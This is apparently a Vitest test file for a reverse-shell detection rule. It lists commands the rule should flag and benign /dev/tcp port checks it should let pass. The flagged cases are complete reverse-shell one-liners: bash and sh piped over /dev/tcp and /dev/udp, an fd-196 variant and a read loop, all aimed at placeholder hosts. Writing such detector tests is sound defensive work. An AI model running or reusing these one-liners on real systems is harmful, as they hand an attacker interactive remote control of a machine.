import { describe } from 'vitest';
import { exec, sh, ruleTable } from '../../test-kit.js';
import { devTcp } from './reverse-shell-dev-tcp.js';

describe('proc.reverse-shell-dev-tcp', () => {
  ruleTable(devTcp, {
    fires: [
      {
        name: 'bash -i >& /dev/tcp',
        event: exec(['bash', '-c', 'bash -i >& /dev/tcp/relay.rogue.test/4444 0>&1']),
      },
      { name: 'sh -i with /dev/udp', event: sh('sh -i >& /dev/udp/198.18.0.7/53 0>&1') },
      {
        name: 'fd 196 variant',
        event: sh('0<&196;exec 196<>/dev/tcp/relay.rogue.test/443; sh <&196 >&196 2>&196'),
      },
      {
        name: 'while read loop',
        event: sh(
          'exec 5<>/dev/tcp/relay.rogue.test/80;cat <&5 | while read line; do $line 2>&5 >&5; done',
        ),
      },
    ],
    passes: [
      { name: 'port probe', event: sh('echo > /dev/tcp/localhost/8080 && echo up') },
      {
        name: 'wait-for-port loop',
        event: sh('until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done'),
      },
      { name: 'an interactive shell, no socket', event: exec(['bash', '-i']) },
    ],
  });
});
